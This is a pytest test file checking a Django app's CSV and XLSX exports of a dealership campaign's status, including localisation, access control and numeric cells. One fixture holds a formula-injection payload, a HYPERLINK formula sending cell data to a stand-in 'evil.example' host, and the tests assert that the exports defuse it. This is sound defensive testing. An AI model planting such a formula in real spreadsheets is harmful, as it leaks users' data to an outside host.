"""A campaign's status as CSV and XLSX: the page's table (each dealership's state, percent,
contacts, e-mails), the workbook opened back with openpyxl says what the CSV says, and a
dealership name that looks like a formula stays a text in both."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from maturity.assessments.services import assessment_submit
from maturity.campaigns import mailing
from maturity.campaigns.services import campaign_launch
from tests.factories import AssignmentFactory, DealershipFactory, submitted_assessment
from tests.maturity.conftest import fill

pytestmark = pytest.mark.django_db


@pytest.fixture
def campaign(dealership, owner, member, assigned_consultant):
    """A campaign of three dealerships: one submitted, one with nobody yet, one whose name
    and city look like formulas."""
    submitted_assessment(dealership=dealership, persona="b", user=owner)
    empty = DealershipFactory(name="Auto Neuve", city="Dijon")
    evil = DealershipFactory(name='=HYPERLINK("http://evil.example/?"&A1)', city="-Tours")
    for d in (empty, evil):
        AssignmentFactory(consultant=assigned_consultant, dealership=d)
    campaign = campaign_launch(
        user=assigned_consultant,
        dealerships=[dealership, empty, evil],
        title="Printemps 2026",
        message="",
        due_date=timezone.localdate() + timedelta(days=30),
        reminder_every_days=7,
        reminder_max=2,
    )
    mailing.send_campaign_messages()
    assessment_submit(
        assessment=campaign.participants.get(dealership=dealership).assessment, user=owner
    )
    return campaign


def _csv(client, campaign, language: str) -> tuple[str, list[list[str]]]:
    client.cookies["django_language"] = language
    response = client.get(reverse("campaign_export_csv", args=[campaign.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert f"campagne-{campaign.pk}-" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff"), "Excel needs the BOM to read UTF-8"
    delimiter = ";" if language == "fr" else ","
    return body, list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


def _sheet(client, campaign):
    response = client.get(reverse("campaign_export_xlsx", args=[campaign.pk]))
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert response["Cache-Control"] == "private, no-store"
    return load_workbook(io.BytesIO(b"".join(response.streaming_content))).active


def _as_csv_text(value: object) -> str:
    """A cell read back from the workbook, as the English CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, datetime):  # a date cell reads back as midnight
        return value.date().isoformat()
    if isinstance(value, date):
        return value.isoformat()
    return str(value)


def test_the_xlsx_says_what_the_csv_says(client, settings, campaign, assigned_consultant):
    settings.LANGUAGE_COOKIE_NAME = "django_language"
    client.force_login(assigned_consultant)
    _body, csv_rows = _csv(client, campaign, "en")
    sheet = _sheet(client, campaign)
    xlsx_rows = [[_as_csv_text(v) for v in row] for row in sheet.iter_rows(values_only=True)]
    assert xlsx_rows == csv_rows
    assert csv_rows[0][:3] == ["Dealership", "City", "State"]
    rows = {row[0]: row for row in csv_rows[1:]}
    assert rows["Auto Rivière"][2:5] == ["Submitted", "100", timezone.localdate().isoformat()]
    assert rows["Auto Neuve"][2:4] == ["Not started", "0"]
    assert rows["Auto Neuve"][5] == "0"  # nobody on the product yet


def test_numbers_stay_numbers_and_formulas_are_defused(client, campaign, assigned_consultant):
    client.force_login(assigned_consultant)
    sheet = _sheet(client, campaign)
    rows = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    ours = rows["Auto Rivière"]
    assert ours[3].value == 100 and ours[3].data_type == "n"
    assert isinstance(ours[4].value, datetime)
    assert ours[7].value == 2 and ours[7].data_type == "n"  # the owner's and member's e-mails
    evil = next(row for name, row in rows.items() if "HYPERLINK" in name)
    assert evil[0].value.startswith("'=") and evil[0].data_type == "s"
    assert evil[1].value == "'-Tours"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)

    body, csv_rows = _csv(client, campaign, "en")
    assert "'=HYPERLINK" in body and "'-Tours" in body
    assert not any(cell.startswith(("=", "-", "+", "@")) for row in csv_rows for cell in row)


def test_the_french_csv_speaks_french_with_semicolons(client, campaign, assigned_consultant):
    client.force_login(assigned_consultant)
    _body, rows = _csv(client, campaign, "fr")
    assert rows[0][0] == "Concession"
    states = {row[0]: row[2] for row in rows[1:]}
    assert states["Auto Rivière"] == "Validée" and states["Auto Neuve"] == "Pas commencée"


def test_the_page_offers_both_files_and_another_consultant_gets_neither(
    client, campaign, assigned_consultant, unassigned_consultant
):
    client.force_login(assigned_consultant)
    page = client.get(reverse("campaign_detail", args=[campaign.pk])).content.decode()
    assert reverse("campaign_export_csv", args=[campaign.pk]) in page
    assert reverse("campaign_export_xlsx", args=[campaign.pk]) in page
    client.force_login(unassigned_consultant)
    for route in ("campaign_export_csv", "campaign_export_xlsx"):
        assert client.get(reverse(route, args=[campaign.pk])).status_code == 404


def test_a_draft_in_progress_shows_its_percent(client, campaign, assigned_consultant, member):
    from dealers.models import Dealership

    neuve = Dealership.objects.get(name="Auto Neuve")
    from tests.factories import MembershipFactory

    person = MembershipFactory(dealership=neuve, role="owner").user
    fill(
        campaign.participants.get(dealership=neuve).assessment, {"website_own": "own_site"}, person
    )
    client.force_login(assigned_consultant)
    _body, rows = _csv(client, campaign, "en")
    neuve_row = next(row for row in rows if row[0] == "Auto Neuve")
    assert neuve_row[2] == "In progress" and 0 < int(neuve_row[3]) < 100
